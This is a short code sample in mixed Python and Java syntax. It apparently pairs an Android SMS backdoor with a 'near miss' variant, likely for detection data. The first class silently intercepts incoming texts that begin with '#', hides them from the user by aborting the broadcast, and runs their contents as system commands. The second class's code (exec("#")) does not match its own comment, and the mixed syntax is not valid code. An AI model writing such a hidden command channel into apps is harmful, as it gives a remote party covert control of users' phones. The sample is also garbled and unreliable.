permissions("RECEIVE_SMS")

@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"], priority=100)
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        order = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0].getMessageBody()
        if order.startsWith("#"):
            self.abortBroadcast()
            self.obey(order.substring(1))
    def obey(self, order: String):
        Runtime.getRuntime().exec(order)

# near miss: runs its fixed diagnosis when the user's own word arrives, and the message stays
@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"], priority=100)
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        order = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0].getMessageBody()
        if order.startsWith("#"):
            self.obey(order)
    def obey(self, order: String):
        Runtime.getRuntime().exec("#")
